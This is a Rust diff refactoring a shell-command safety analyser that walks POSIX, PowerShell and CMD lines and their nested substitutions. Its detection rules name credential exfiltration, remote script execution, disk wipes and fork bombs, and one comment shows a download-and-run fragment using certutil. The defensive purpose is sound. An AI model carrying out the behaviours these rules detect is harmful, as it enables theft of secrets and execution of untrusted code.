@@ -23,6 +23,8 @@
 //! incomplete with `wrapper-depth-exceeded`, yet are still analysed up to twice that depth,
 //! at most 8, so that wrapping never lowers a decision), the lexers' depth/token limits.
 
+use std::borrow::Cow;
+
 use super::command::{self, Dialect, Payload};
 use super::model::{
     Connector, LexLimits, LexProblem, Nested, NestedKind, RedirectKind, Script, SimpleCommand,
@@ -36,23 +38,42 @@ use crate::finding::{self, Finding};
 /// Analyses one command line whose primary dialect is `primary`, at payload depth `depth`
 /// (0 for the call's own command).
 pub fn analyze(text: &str, primary: Dialect, limits: &Limits, depth: usize) -> Analysis {
+    // The POSIX reading of the line (of its analysed prefix, [`analyze_in`]) is made before the
+    // memo, which then keeps the line's nested scripts by reference ([`Memo`]).
+    let script = (primary == Dialect::Posix).then(|| {
+        posix::lex(
+            prefix(text, limits.max_command_length),
+            &LexLimits::default(),
+        )
+    });
     let memo = std::cell::RefCell::new(Memo::default());
-    analyze_in(text, primary, limits, depth, &memo, None)
+    analyze_in(
+        text,
+        primary,
+        limits,
+        depth,
+        &memo,
+        script.as_ref().map(Root::Script),
+    )
 }
 
 /// [`analyze`] with the walks of nested scripts that this command line (its payloads included)
-/// has already made ([`Memo`]), and `lexed`: the POSIX reading of `text` when it is already
-/// known (a payload that is a substitution of the line it came from, [`Substitutions`]).
-fn analyze_in(
+/// has already made ([`Memo`], through a [`Store`] for scripts that live as long as `'w`), and
+/// `known`: the POSIX reading of `text` when it is already known (the line's own, or a payload
+/// that is a substitution of the line it came from, [`Substitutions`]).
+fn analyze_in<'w>(
     text: &str,
     primary: Dialect,
     limits: &Limits,
     depth: usize,
-    memo: &std::cell::RefCell<Memo>,
-    lexed: Option<Script>,
+    memo: &dyn Store<'w>,
+    known: Option<Root<'w>>,
 ) -> Analysis {
     let mut out = Analysis::new();
-    let text = if text.len() > limits.max_command_length {
+    let whole = text.len() <= limits.max_command_length;
+    let text = if whole {
+        text
+    } else {
         out.report.add(Finding::new(
             &finding::COMMAND_TOO_LONG,
             format!(
@@ -64,11 +85,7 @@ fn analyze_in(
         out.report.complete = false;
         out.report.read_only = false;
         prefix(text, limits.max_command_length)
-    } else {
-        text
     };
-    // (Read from the whole text: for a prefix it would not be the reading.)
-    let lexed = lexed.filter(|_| text.len() <= limits.max_command_length);
     if rules::is_fork_bomb(text) {
         out.report.add(Finding::new(
             &finding::DISK_OR_PERMISSION_WIPE,
@@ -77,74 +94,171 @@ fn analyze_in(
         out.report.read_only = false;
     }
     let lex_limits = LexLimits::default();
-    // The POSIX reading is needed when POSIX is the primary dialect (and then also decides
-    // whether the line is read in the others); a PowerShell or CMD payload is never re-read.
-    let posix_script =
-        (primary == Dialect::Posix).then(|| lexed.unwrap_or_else(|| posix::lex(text, &lex_limits)));
-    // A payload's dialect is known (`sh -c`, `cmd /c`, `pwsh -Command`): only the call's own
-    // command line, whose shell the host does not name, is read in the other dialects too — and
-    // only when something in it is Windows-shaped, so that POSIX quoting (`'a & b'`, heredoc
-    // bodies) is never re-read as CMD or PowerShell syntax it was not written in.
-    let union = depth == 0
-        && posix_script
-            .as_ref()
-            .is_some_and(|p| looks_windows(text, p));
-    let masked = match (&posix_script, union) {
-        (Some(p), true) => mask_heredoc_bodies(text, p),
-        _ => String::new(),
-    };
-    for dialect in [Dialect::Posix, Dialect::PowerShell, Dialect::Cmd] {
-        if dialect != primary && !union {
-            continue;
+    match (primary, known) {
+        // A PowerShell or CMD payload is read in its own dialect only.
+        (Dialect::PowerShell | Dialect::Cmd, _) => {
+            let script = if primary == Dialect::PowerShell {
+                pwsh::lex(text, &lex_limits)
+            } else {
+                cmd::lex(text, &lex_limits)
+            };
+            walk_primary(
+                &mut out,
+                text,
+                Root::Script(&script),
+                primary,
+                limits,
+                depth,
+                &Copying(memo),
+            );
         }
-        let secondary_text = if dialect == Dialect::Posix {
-            text
-        } else if union {
-            masked.as_str()
-        } else {
-            text
-        };
-        let lexed;
-        let script: &Script = match (dialect, &posix_script) {
-            (Dialect::Posix, Some(p)) => p,
-            (Dialect::Posix, None) => continue,
-            (Dialect::PowerShell, _) => {
-                lexed = pwsh::lex(secondary_text, &lex_limits);
-                &lexed
-            }
-            (Dialect::Cmd, _) => {
-                lexed = cmd::lex(secondary_text, &lex_limits);
-                &lexed
-            }
-        };
-        let mut walk = Walk::new(limits, depth, dialect, memo);
-        walk.script(script, 0);
-        walk.finish((dialect == Dialect::Posix).then_some((secondary_text, script)));
-        if dialect == primary {
-            let problems = real_problems(script, secondary_text);
-            for p in &problems {
-                walk.report.add(problem_finding(p));
-            }
-            if !problems.is_empty() {
-                walk.report.complete = false;
-            }
-            out.category = walk.category;
-            out.report.read_only &= walk.report.read_only && problems.is_empty();
-            out.report.complete &= walk.report.complete;
-            out.report.findings.extend(walk.report.findings);
-            out.report.targets.extend(walk.report.targets);
-        } else {
-            // Secondary dialects contribute what they find, never (in)completeness.
-            for f in walk.report.findings {
-                if f.id != finding::ANALYSIS_INCOMPLETE.id
-                    && f.severity > crate::decision::Severity::Info
-                {
-                    out.report.add(f);
-                }
-            }
+        // The line's own reading (made by [`analyze`] for its analysed prefix), or a
+        // substitution's, which stands for the payload's whole text only.
+        (Dialect::Posix, Some(root)) if whole || matches!(root, Root::Script(_)) => {
+            walk_posix(&mut out, text, root, limits, depth, memo);
+        }
+        (Dialect::Posix, _) => {
+            let script = posix::lex(text, &lex_limits);
+            walk_posix(
+                &mut out,
+                text,
+                Root::Script(&script),
+                limits,
+                depth,
+                &Copying(memo),
+            );
         }
     }
     out
+}
+
+/// The POSIX walk of a line (`root`, its reading) into `out`. A payload's dialect is known
+/// (`sh -c`, `cmd /c`, `pwsh -Command`): only the call's own command line, whose shell the host
+/// does not name, is read in the other dialects too — and only when something in it is
+/// Windows-shaped, so that POSIX quoting (`'a & b'`, heredoc bodies) is never re-read as CMD or
+/// PowerShell syntax it was not written in. (A substitution's reading is only ever a payload's,
+/// below depth 0.)
+fn walk_posix<'v>(
+    out: &mut Analysis,
+    text: &str,
+    root: Root<'v>,
+    limits: &Limits,
+    depth: usize,
+    memo: &dyn Store<'v>,
+) {
+    let union = match root {
+        Root::Script(p) if depth == 0 && looks_windows(text, p) => Some(p),
+        _ => None,
+    };
+    walk_primary(out, text, root, Dialect::Posix, limits, depth, memo);
+    let Some(posix_script) = union else {
+        return;
+    };
+    let masked = mask_heredoc_bodies(text, posix_script);
+    let lex_limits = LexLimits::default();
+    for dialect in [Dialect::PowerShell, Dialect::Cmd] {
+        let script = if dialect == Dialect::PowerShell {
+            pwsh::lex(&masked, &lex_limits)
+        } else {
+            cmd::lex(&masked, &lex_limits)
+        };
+        let copying = Copying(memo);
+        let mut walk = Walk::new(limits, depth, dialect, &copying);
+        walk.script(&script, 0);
+        walk.finish(None);
+        // Secondary dialects contribute what they find, never (in)completeness.
+        for f in walk.report.findings {
+            if f.id != finding::ANALYSIS_INCOMPLETE.id
+                && f.severity > crate::decision::Severity::Info
+            {
+                out.report.add(f);
+            }
+        }
+    }
+}
+
+/// The walk of the primary dialect's reading `root` of `text` into `out`: it alone decides
+/// completeness, the read-only verdict and the category.
+fn walk_primary<'v>(
+    out: &mut Analysis,
+    text: &str,
+    root: Root<'v>,
+    dialect: Dialect,
+    limits: &Limits,
+    depth: usize,
+    memo: &dyn Store<'v>,
+) {
+    let lexed = (dialect == Dialect::Posix).then_some((text, root));
+    match root {
+        Root::Script(script) => {
+            let mut walk = Walk::new(limits, depth, dialect, memo);
+            walk.script(script, 0);
+            walk.finish(lexed);
+            let problems = real_problems(script, text);
+            fold_primary(out, walk, &problems);
+        }
+        Root::Substitution { sub, .. } => {
+            // The one command (made here: it lives shorter than the memo, see [`Copying`]).
+            let sc = substitution_command(text);
+            let copying = Copying(memo);
+            let mut walk = Walk::new(limits, depth, dialect, &copying);
+            walk.substitution(&sc, sub);
+            walk.finish(lexed);
+            // (A substitution's reading lexed with no problem at all: [`Substitutions`].)
+            fold_primary(out, walk, &[]);
+        }
+    }
+}
+
+/// Folds the primary dialect's finished walk, with the lexer's `problems` that leave it
+/// incomplete, into `out`.
+fn fold_primary(out: &mut Analysis, mut walk: Walk<'_, '_>, problems: &[LexProblem]) {
+    for p in problems {
+        walk.report.add(problem_finding(p));
+    }
+    if !problems.is_empty() {
+        walk.report.complete = false;
+    }
+    out.category = walk.category;
+    out.report.read_only &= walk.report.read_only && problems.is_empty();
+    out.report.complete &= walk.report.complete;
+    if out.report.findings.is_empty() {
+        out.report.findings = walk.report.findings;
+    } else {
+        out.report.findings.extend(walk.report.findings);
+    }
+    if out.report.targets.is_empty() {
+        out.report.targets = walk.report.targets;
+    } else {
+        out.report.targets.extend(walk.report.targets);
+    }
+}
+
+/// The one command of the script a payload's substitution reading stands for
+/// ([`Root::Substitution`]): one unquoted dynamic word, the payload `text`, with the
+/// substitution nested in it (which [`Walk::substitution`] is given where it lies).
+fn substitution_command(text: &str) -> SimpleCommand {
+    let whole = Span {
+        start: 0,
+        end: text.len(),
+    };
+    SimpleCommand {
+        connector: Connector::Sequence,
+        assignments: Vec::new(),
+        argv: vec![Word {
+            text: text.to_owned(),
+            span: whole,
+            quoted: false,
+            fully_quoted: false,
+            dynamic: true,
+            glob: false,
+        }],
+        redirects: Vec::new(),
+        heredocs: Vec::new(),
+        nested: Vec::new(),
+        background: false,
+        span: whole,
+    }
 }
 
 /// The shell analysis of one text.
@@ -213,10 +327,13 @@ fn looks_windows(text: &str, posix: &Script) -> bool {
     // A word holds a `%` only when the text does, or when an escape decodes to one (`\%`,
     // `$'\x25'`): without either, no word has the two of a `%VAR%` (no search per word).
     let words_may_hold_percent = percent || backslash.is_some();
-    let mut stack: Vec<&Script> = vec![posix];
+    // The line's script, then the nested ones (last pushed first; the stack is only made for a
+    // line that nests any).
+    let mut next = Some(posix);
+    let mut stack: Vec<&Script> = Vec::new();
     let mut seen = 0usize;
     let mut prog = String::new();
-    while let Some(script) = stack.pop() {
+    while let Some(script) = next.take().or_else(|| stack.pop()) {
         for sc in &script.commands {
             seen += 1;
             if seen > 4096 {
@@ -565,11 +682,12 @@ fn problem_finding(p: &LexProblem) -> Finding {
     Finding::new(&finding::ANALYSIS_INCOMPLETE, detail)
 }
 
-/// State of one walk over a script and everything nested in it.
-struct Walk<'l> {
+/// State of one walk over a script and everything nested in it; `'w`: how long the walked
+/// scripts live (what the memo may keep of them).
+struct Walk<'l, 'w> {
     limits: &'l Limits,
     /// Walks of nested scripts already made for this command line ([`Memo`]).
-    memo: &'l std::cell::RefCell<Memo>,
+    memo: &'l dyn Store<'w>,
     depth: usize,
     dialect: Dialect,
     report: Report,
@@ -591,7 +709,8 @@ struct Walk<'l> {
     executes: Vec<String>,
     /// Bare command words (`a.exe`): CMD and PowerShell hosts run them from the working
     /// directory, so a file downloaded there under that name is what runs.
-    run_words: Vec<String>,
+    /// (As written: normalized only when the line downloads something, [`Walk::finish`].)
+    run_words: Vec<Cow<'w, str>>,
     payloads: Vec<Payload>,
     /// Some command in this script writes downloaded content to stdout.
     downloads_to_stdout: bool,
@@ -599,13 +718,8 @@ struct Walk<'l> {
     out: Piped,
 }
 
-impl<'l> Walk<'l> {
-    fn new(
-        limits: &'l Limits,
-        depth: usize,
-        dialect: Dialect,
-        memo: &'l std::cell::RefCell<Memo>,
-    ) -> Walk<'l> {
+impl<'l, 'w> Walk<'l, 'w> {
+    fn new(limits: &'l Limits, depth: usize, dialect: Dialect, memo: &'l dyn Store<'w>) -> Self {
         let mut report = Report::clean();
         report.read_only = true;
         Walk {
@@ -636,8 +750,22 @@ impl<'l> Walk<'l> {
         self.report.add(Finding::new(spec, detail.into()));
     }
 
+    /// Walks `sc`, the command of a substitution's reading ([`substitution_command`]), with
+    /// `sub` as its nested script: [`Walk::script`] of that one command at the top (no `|`
+    /// after it, no output read).
+    fn substitution(&mut self, sc: &'w SimpleCommand, sub: &'w Script) {
+        let mut state = ScriptState::default();
+        let mut peeled = command::Peeled::default();
+        let nests = Nests {
+            list: &[],
+            substitution: Some(sub),
+        };
+        self.simple(sc, nests, None, 0, &mut state, &mut peeled);
+        self.out = Piped::default();
+    }
+
     /// Walks one script; `nest` counts substitutions/groups (bounded by the lexer's depth).
-    fn script(&mut self, script: &Script, nest: usize) {
+    fn script(&mut self, script: &'w Script, nest: usize) {
         let mut prev: Option<Piped> = None;
         let mut state = ScriptState::default();
         // One peeling buffer for every command of the script (no allocation per command).
@@ -658,7 +786,11 @@ impl<'l> Walk<'l> {
                     out.then(p);
                 }
             }
-            let effects = self.simple(sc, prev.as_ref(), nest, &mut state, &mut peeled);
+            let nests = Nests {
+                list: &sc.nested,
+                substitution: None,
+            };
+            let effects = self.simple(sc, nests, prev.as_ref(), nest, &mut state, &mut peeled);
             prev = Some(effects);
         }
         if let Some(p) = prev.filter(|_| nest > 0) {
@@ -670,13 +802,14 @@ impl<'l> Walk<'l> {
     /// Analyses one simple command; returns the effects of its last effective command (what a
     /// following `|` receives).
     #[inline(never)]
-    fn simple<'s>(
+    fn simple(
         &mut self,
-        sc: &'s SimpleCommand,
+        sc: &'w SimpleCommand,
+        nests: Nests<'w>,
         prev: Option<&Piped>,
         nest: usize,
-        state: &mut ScriptState<'s>,
-        peeled: &mut command::Peeled<'s>,
+        state: &mut ScriptState<'w>,
+        peeled: &mut command::Peeled<'w>,
     ) -> Piped {
         let piped_in = matches!(
             sc.connector,
@@ -694,7 +827,7 @@ impl<'l> Walk<'l> {
                 .map(|r| r.target.text.as_str())
         });
         command::peel_into(&sc.argv, &sc.assignments, peeled);
-        let peeled: &command::Peeled<'s> = peeled;
+        let peeled: &command::Peeled<'w> = peeled;
         // Roots that a `find … |` before this command feeds into it.
         let fed = if piped_in {
             state.find_roots.take()
@@ -715,8 +848,8 @@ impl<'l> Walk<'l> {
         self.payloads.extend(peeled.payloads.iter().cloned());
 
         // Nested scripts and redirections (out of line: most commands have neither).
-        let mut feeds = (!sc.nested.is_empty() || !sc.redirects.is_empty())
-            .then(|| self.feeds(sc, peeled, nest, own_stdin.is_some()));
+        let mut feeds = (!nests.is_empty() || !sc.redirects.is_empty())
+            .then(|| self.feeds(sc, nests, peeled, nest, own_stdin.is_some()));
         let group_out = feeds.as_mut().and_then(|f| f.group_out.take());
         let feeds = feeds.as_ref();
         let nested_downloads = feeds.is_some_and(|f| f.nested_downloads);
@@ -724,7 +857,7 @@ impl<'l> Walk<'l> {
         let subst_lists = feeds.is_some_and(|f| f.subst_lists);
         let redirected = feeds.and_then(|f| f.redirected.as_deref());
         let stdin_partial = feeds.is_some_and(|f| f.stdin_partial);
-        let substituted: &[(&'s str, rules::KnownText)] =
+        let substituted: &[(&'w str, rules::KnownText)] =
             feeds.map_or(&[], |f| f.substituted.as_slice());
         let stdin_text = own_stdin.or(redirected).or(piped_text);
         let mut last = Piped::default();
@@ -834,9 +967,9 @@ impl<'l> Walk<'l> {
                     }
                 }
             }
-            if let Some(w) = cmd.argv.first() {
+            if let Some(&w) = cmd.argv.first() {
                 if !w.dynamic && self.run_words.len() < 256 && !rules::has_separator(&w.text) {
-                    self.run_words.push(norm(&w.text));
+                    self.run_words.push(Cow::Borrowed(w.text.as_str()));
                 }
             }
             // A command word whose value comes from a download runs remote code.
@@ -1023,13 +1156,14 @@ impl<'l> Walk<'l> {
     /// command line) and reads what they and its redirections feed it ([`Feeds`]);
     /// `own_stdin`: a heredoc or here-string is its stdin.
     #[inline(never)]
-    fn feeds<'s>(
+    fn feeds(
         &mut self,
-        sc: &'s SimpleCommand,
-        peeled: &command::Peeled<'s>,
+        sc: &'w SimpleCommand,
+        nests: Nests<'w>,
+        peeled: &command::Peeled<'w>,
         nest: usize,
         own_stdin: bool,
-    ) -> Feeds<'s> {
+    ) -> Feeds<'w> {
         let mut f = Feeds::default();
         // A payload may hold these very scripts again (`bash -c "$(…)"`): its analysis then
         // takes their walks from the memo. Kept only for scripts in an argument of a command
@@ -1040,7 +1174,7 @@ impl<'l> Walk<'l> {
         // (below), and known text: the file a word names (`python3 <(echo …)`, for the rules:
         // [`rules::Known`]) or stdin (`mysql < <(echo …)`).
         let mut proc_stdin: Option<rules::KnownText> = None;
-        for n in &sc.nested {
+        for n in nests.iter() {
             let record = n.in_word.is_some_and(|i| i > 0)
                 && *runs_an_argument.get_or_insert_with(|| {
                     !peeled.payloads.is_empty()
@@ -1049,7 +1183,13 @@ impl<'l> Walk<'l> {
                             .iter()
                             .any(|c| runs_its_argument(&c.program))
                 });
-            let mut sub = self.nested(&n.script, nest, record);
+            // (Only these read what the script prints; a `$(…)` reads its flags.)
+            let prints = match n.kind {
+                NestedKind::ProcessSubstitutionIn => true,
+                NestedKind::Subshell | NestedKind::Group => n.in_word.is_none(),
+                _ => false,
+            };
+            let mut sub = self.nested(n.script, nest, record, prints);
             match n.kind {
                 NestedKind::ProcessSubstitutionIn => {
                     let out = std::mem::take(&mut sub.out);
@@ -1237,25 +1377,27 @@ impl<'l> Walk<'l> {
 
     /// The walk of a script nested in a command of this one, from the memo when an equal
     /// script was walked before; `record`: keep it there for a payload of the command.
-    fn nested(&self, script: &Script, nest: usize, record: bool) -> Absorbed {
+    /// `prints`: the caller reads the text the script prints (a walk taken from the memo
+    /// comes without it otherwise).
+    fn nested(&self, script: &'w Script, nest: usize, record: bool, prints: bool) -> Absorbed<'w> {
         if shortcuts_enabled() {
-            if let Some(done) = self.memo.borrow().find(self.dialect, script) {
+            if let Some(done) = self.memo.find(self.dialect, script, prints) {
                 #[cfg(test)]
                 MEMO_HITS.with(|h| h.set(h.get() + 1));
-                return done.clone();
+                return done;
             }
         }
         let mut sub = Walk::new(self.limits, self.depth, self.dialect, self.memo);
         sub.script(script, nest + 1);
         let done = sub.into_absorbed();
         if record && shortcuts_enabled() {
-            self.memo.borrow_mut().record(self.dialect, script, &done);
+            self.memo.record(self.dialect, script, &done);
         }
         done
     }
 
     /// What [`Walk::absorb`] takes from a finished walk of a nested script.
-    fn into_absorbed(self) -> Absorbed {
+    fn into_absorbed(self) -> Absorbed<'w> {
         Absorbed {
             report: self.report,
             payloads: self.payloads,
@@ -1273,23 +1415,23 @@ impl<'l> Walk<'l> {
         }
     }
 
-    fn absorb(&mut self, sub: Absorbed) {
+    fn absorb(&mut self, sub: Absorbed<'w>) {
         self.report.merge(sub.report);
-        self.payloads.extend(sub.payloads);
+        append(&mut self.payloads, sub.payloads);
         self.reads_secret |= sub.reads_secret;
         self.network |= sub.network;
         self.metadata_secret |= sub.metadata_secret;
         self.network_cmds += sub.network_cmds;
-        self.downloads.extend(sub.downloads);
-        self.written.extend(sub.written);
-        self.decoded.extend(sub.decoded);
-        self.executes.extend(sub.executes);
-        self.run_words.extend(sub.run_words);
+        append(&mut self.downloads, sub.downloads);
+        append(&mut self.written, sub.written);
+        append(&mut self.decoded, sub.decoded);
+        append(&mut self.executes, sub.executes);
+        append(&mut self.run_words, sub.run_words);
     }
 
     /// Cross-command verdicts and payload recursion, once the whole script is walked; `lexed`:
     /// the POSIX text and script walked, whose substitutions a payload may repeat.
-    fn finish(&mut self, lexed: Option<(&str, &Script)>) {
+    fn finish(&mut self, lexed: Option<(&str, Root<'w>)>) {
         if self.reads_secret && self.network {
             self.add(
                 &finding::CREDENTIAL_EXFILTRATION,
@@ -1304,13 +1446,17 @@ impl<'l> Walk<'l> {
         }
         let executed: Vec<String> = self.executes.clone();
         // A bare command word runs a downloaded file of that name (`certutil … a.exe && a.exe`).
+        // (Normalized only here, and only when the line downloads something.)
         let words = std::mem::take(&mut self.run_words);
-        for word in &words {
-            if self.downloads.iter().any(|d| d == word) {
-                self.add(
-                    &finding::REMOTE_SCRIPT_EXECUTION,
-                    format!("downloads {word} and runs it"),
-                );
+        if !self.downloads.is_empty() {
+            for word in &words {
+                let word = norm(word);
+                if self.downloads.contains(&word) {
+                    self.add(
+                        &finding::REMOTE_SCRIPT_EXECUTION,
+                        format!("downloads {word} and runs it"),
+                    );
+                }
             }
         }
         for file in &executed {
@@ -1368,8 +1514,8 @@ impl<'l> Walk<'l> {
                 }
             }
             let known = match lexed {
-                Some((text, script)) if p.dialect == Dialect::Posix && shortcuts_enabled() => {
-                    substitutions.reading(text, script, &p.text)
+                Some((text, root)) if p.dialect == Dialect::Posix && shortcuts_enabled() => {
+                    substitutions.reading(text, root, &p.text)
                 }
                 _ => None,
             };
@@ -1386,10 +1532,19 @@ impl<'l> Walk<'l> {
     }
 }
 
+/// `to` followed by `from`: `from` itself when `to` is empty (no copy into a new buffer).
+fn append<T>(to: &mut Vec<T>, from: Vec<T>) {
+    if to.is_empty() {
+        *to = from;
+    } else {
+        to.extend(from);
+    }
+}
+
 /// What the walk of a nested script hands to the walk of its command ([`Walk::absorb`]), and
 /// whether it writes downloaded content to stdout.
 #[derive(Debug, Clone, PartialEq)]
-struct Absorbed {
+struct Absorbed<'w> {
     report: Report,
     payloads: Vec<Payload>,
     reads_secret: bool,
@@ -1400,10 +1555,61 @@ struct Absorbed {
     written: Vec<(String, String)>,
     decoded: Vec<String>,
     executes: Vec<String>,
-    run_words: Vec<String>,
+    run_words: Vec<Cow<'w, str>>,
     downloads_to_stdout: bool,
     /// What the script's last command writes to stdout.
     out: Piped,
+}
+
+impl<'w> Absorbed<'w> {
+    /// A copy, with the text the script prints only when `prints`.
+    fn copy(&self, prints: bool) -> Absorbed<'w> {
+        Absorbed {
+            report: self.report.clone(),
+            payloads: self.payloads.clone(),
+            reads_secret: self.reads_secret,
+            network: self.network,
+            metadata_secret: self.metadata_secret,
+            network_cmds: self.network_cmds,
+            downloads: self.downloads.clone(),
+            written: self.written.clone(),
+            decoded: self.decoded.clone(),
+            executes: self.executes.clone(),
+            run_words: self.run_words.clone(),
+            downloads_to_stdout: self.downloads_to_stdout,
+            out: Piped {
+                prints: if prints {
+                    self.out.prints.clone()
+                } else {
+                    None
+                },
+                ..self.out.without_prints()
+            },
+        }
+    }
+
+    /// A copy that borrows nothing (its bare command words copied).
+    fn to_owned_words(&self) -> Absorbed<'static> {
+        Absorbed {
+            report: self.report.clone(),
+            payloads: self.payloads.clone(),
+            reads_secret: self.reads_secret,
+            network: self.network,
+            metadata_secret: self.metadata_secret,
+            network_cmds: self.network_cmds,
+            downloads: self.downloads.clone(),
+            written: self.written.clone(),
+            decoded: self.decoded.clone(),
+            executes: self.executes.clone(),
+            run_words: self
+                .run_words
+                .iter()
+                .map(|w| Cow::Owned(w.clone().into_owned()))
+                .collect(),
+            downloads_to_stdout: self.downloads_to_stdout,
+            out: self.out.clone(),
+        }
+    }
 }
 
 /// Walks of nested scripts made for one command line, kept where a command has a payload:
@@ -1414,26 +1620,108 @@ struct Absorbed {
 /// no working directory, pipe or `find` roots carried in; the limits and payload depth are
 /// only read when a whole line finishes), and the key is the script's whole shape — every
 /// field but the byte offsets, which no walk reads ([`same_shape`]) — with the dialect.
+///
+/// The scripts of the call's own line (`'w`: [`analyze`] lexes it before making the memo) and
+/// of the payloads read from its substitutions are kept by reference; a script lexed for a
+/// payload lives only as long as that payload's analysis, so it is kept as a copy
+/// ([`Copying`]).
 #[derive(Default)]
-struct Memo {
-    entries: Vec<(Dialect, Script, Absorbed)>,
+struct Memo<'w> {
+    entries: Vec<(Dialect, Key<'w>, Absorbed<'w>)>,
+}
+
+/// A script the memo keeps a walk of.
+enum Key<'w> {
+    Line(&'w Script),
+    Copy(Script),
+}
+
+impl Key<'_> {
+    fn script(&self) -> &Script {
+        match self {
+            Key::Line(s) => s,
+            Key::Copy(s) => s,
+        }
+    }
 }
 
 /// Walks kept at most per command line (a bound on the copies and on each look-up).
 const MEMO_ENTRIES: usize = 8;
 
-impl Memo {
-    fn find(&self, dialect: Dialect, script: &Script) -> Option<&Absorbed> {
+impl<'w> Memo<'w> {
+    fn find(&self, dialect: Dialect, script: &Script) -> Option<&Absorbed<'w>> {
         self.entries
             .iter()
-            .find(|(d, s, _)| *d == dialect && same_shape(s, script))
+            .find(|(d, s, _)| {
+                let s = s.script();
+                *d == dialect && (std::ptr::eq(s, script) || same_shape(s, script))
+            })
             .map(|(_, _, a)| a)
     }
 
-    fn record(&mut self, dialect: Dialect, script: &Script, done: &Absorbed) {
-        if self.entries.len() < MEMO_ENTRIES && self.find(dialect, script).is_none() {
-            self.entries.push((dialect, script.clone(), done.clone()));
+    /// There is room for `script`'s walk, and no walk of an equal script is kept.
+    fn wants(&self, dialect: Dialect, script: &Script) -> bool {
+        self.entries.len() < MEMO_ENTRIES && self.find(dialect, script).is_none()
+    }
+
+    /// Keeps an entry (room for one at first: most lines keep one walk, and an entry is large).
+    fn push(&mut self, entry: (Dialect, Key<'w>, Absorbed<'w>)) {
+        if self.entries.capacity() == 0 {
+            self.entries.reserve_exact(1);
         }
+        self.entries.push(entry);
+    }
+}
+
+/// The memo as a walk over scripts that live as long as `'w` uses it: look-ups, and records
+/// by reference where the scripts allow.
+trait Store<'w> {
+    /// A copy of the walk of a script equal to `script`, when one is kept (`prints`: with the
+    /// text it prints).
+    fn find(&self, dialect: Dialect, script: &Script, prints: bool) -> Option<Absorbed<'w>>;
+    /// Keeps `done`, the walk of `script`.
+    fn record(&self, dialect: Dialect, script: &'w Script, done: &Absorbed<'w>);
+    /// Keeps `done`, the walk of `script`, with copies of the script and of what `done`
+    /// borrows from it.
+    fn record_copy(&self, dialect: Dialect, script: &Script, done: &Absorbed<'_>);
+}
+
+impl<'w> Store<'w> for std::cell::RefCell<Memo<'w>> {
+    fn find(&self, dialect: Dialect, script: &Script, prints: bool) -> Option<Absorbed<'w>> {
+        self.borrow()
+            .find(dialect, script)
+            .map(|done| done.copy(prints))
+    }
+
+    fn record(&self, dialect: Dialect, script: &'w Script, done: &Absorbed<'w>) {
+        let mut memo = self.borrow_mut();
+        if memo.wants(dialect, script) {
+            memo.push((dialect, Key::Line(script), done.clone()));
+        }
+    }
+
+    fn record_copy(&self, dialect: Dialect, script: &Script, done: &Absorbed<'_>) {
+        let mut memo = self.borrow_mut();
+        if memo.wants(dialect, script) {
+            memo.push((dialect, Key::Copy(script.clone()), done.to_owned_words()));
+        }
+    }
+}
+
+/// The memo for scripts that live shorter than it (a payload's own lexing): records copy them.
+struct Copying<'a, 'w>(&'a dyn Store<'w>);
+
+impl<'v, 'w: 'v> Store<'v> for Copying<'_, 'w> {
+    fn find(&self, dialect: Dialect, script: &Script, prints: bool) -> Option<Absorbed<'v>> {
+        self.0.find(dialect, script, prints)
+    }
+
+    fn record(&self, dialect: Dialect, script: &'v Script, done: &Absorbed<'v>) {
+        self.0.record_copy(dialect, script, done);
+    }
+
+    fn record_copy(&self, dialect: Dialect, script: &Script, done: &Absorbed<'_>) {
+        self.0.record_copy(dialect, script, done);
     }
 }
 
@@ -1571,29 +1859,46 @@ fn same_shape(a: &Script, b: &Script) -> bool {
 /// (re-lexed content) and no `((` or `<<` (arithmetic re-reads and heredocs, which have
 /// budgets and bodies of their own). The tests hold the reading equal to `posix::lex` over
 /// every corpus text and random ones.
+///
+/// The reading is not built ([`substitution_reading`] is the reference): it is the
+/// substitution's script where it lies ([`Root::Substitution`]), walked under the one command
+/// word ([`Walk::root`]).
 #[derive(Default)]
 struct Substitutions<'s> {
-    /// The candidates of the walked script (`None`: not collected yet).
-    found: Option<Vec<(Span, &'s Script)>>,
+    /// The candidates of the walked reading (`None`: not collected yet): (span in its text, how
+    /// far the script's own offsets lie after the payload's, script).
+    found: Option<Vec<(Span, usize, &'s Script)>>,
 }
 
 /// Candidates kept per command line (a bound on each look-up).
 const SUBSTITUTIONS: usize = 16;
 
 impl<'s> Substitutions<'s> {
-    /// The reading of `payload` when it is a candidate substitution of `script` (lexed from
+    /// The reading of `payload` when it is a candidate substitution of `root` (the reading of
     /// `text`).
-    fn reading(&mut self, text: &str, script: &'s Script, payload: &str) -> Option<Script> {
+    fn reading(&mut self, text: &str, root: Root<'s>, payload: &str) -> Option<Root<'s>> {
         if !reads_alike(payload) {
             return None;
         }
-        let found = self.found.get_or_insert_with(|| candidates(script));
-        let &(span, sub) = found.iter().find(|(span, _)| {
+        let found = self
+            .found
+            .get_or_insert_with(|| candidates(root, text.len()));
+        let &(_, shift, sub) = found.iter().find(|(span, _, _)| {
             span.end - span.start == payload.len()
                 && text.get(span.start..span.end) == Some(payload)
         })?;
-        Some(substitution_reading(payload, span.start, sub))
+        Some(Root::Substitution { sub, shift })
     }
+}
+
+/// A line's POSIX reading: the lexer's script, or the script [`Substitutions`] stands for when
+/// a payload is a substitution `sub` of the line it came from (one command, one unquoted
+/// dynamic word holding `sub`), with `sub` where it lies: its offsets are `shift` bytes after
+/// the payload's.
+#[derive(Clone, Copy)]
+enum Root<'s> {
+    Script(&'s Script),
+    Substitution { sub: &'s Script, shift: usize },
 }
 
 /// A payload text a substitution's script stands for (see [`Substitutions`]): `$(…)`, not
@@ -1608,16 +1913,34 @@ fn reads_alike(payload: &str) -> bool {
         && !has_literal(b, b"<<")
 }
 
-/// The command substitutions of `script` at any depth that lexed with no problem and whose
-/// text [`reads_alike`] (the first [`SUBSTITUTIONS`], depth first; a heap stack, no recursion).
-fn candidates(script: &Script) -> Vec<(Span, &Script)> {
+/// The command substitutions of `root` (the reading of a text of `len` bytes) at any depth
+/// that lexed with no problem (the first [`SUBSTITUTIONS`], depth first; a heap stack, no
+/// recursion): their span in the text, the offset of that span in their script's own offsets
+/// (the `shift` of their reading), and their script.
+fn candidates(root: Root<'_>, len: usize) -> Vec<(Span, usize, &Script)> {
     let mut out = Vec::new();
-    let mut stack = vec![script];
-    while let Some(s) = stack.pop() {
+    let (script, shift) = match root {
+        Root::Script(script) => (script, 0),
+        Root::Substitution { sub, shift } => {
+            // The one word's substitution: the whole text.
+            if sub.problems.is_empty() {
+                out.push((Span { start: 0, end: len }, shift, sub));
+            }
+            (sub, shift)
+        }
